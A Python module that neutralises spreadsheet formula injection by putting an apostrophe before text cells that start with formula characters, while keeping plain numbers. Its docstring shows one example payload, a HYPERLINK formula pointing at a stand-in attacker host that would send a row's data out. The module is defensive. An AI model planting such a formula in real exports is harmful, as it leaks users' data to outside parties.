"""Spreadsheet formula injection (OWASP "CSV injection"): a text cell that begins
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets, so an organisation named
``=HYPERLINK("http://evil.example/?d="&M2,"details")`` would become a live link
that leaks the row. Such text gets a leading apostrophe, which spreadsheets
show as text; numbers (``-12.50`` in a CSV, or any int/Decimal in an XLSX)
stay numbers."""
from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def neutralised(value):
    """``value`` made safe to write into a spreadsheet cell: only text that would
    be read as a formula changes."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value
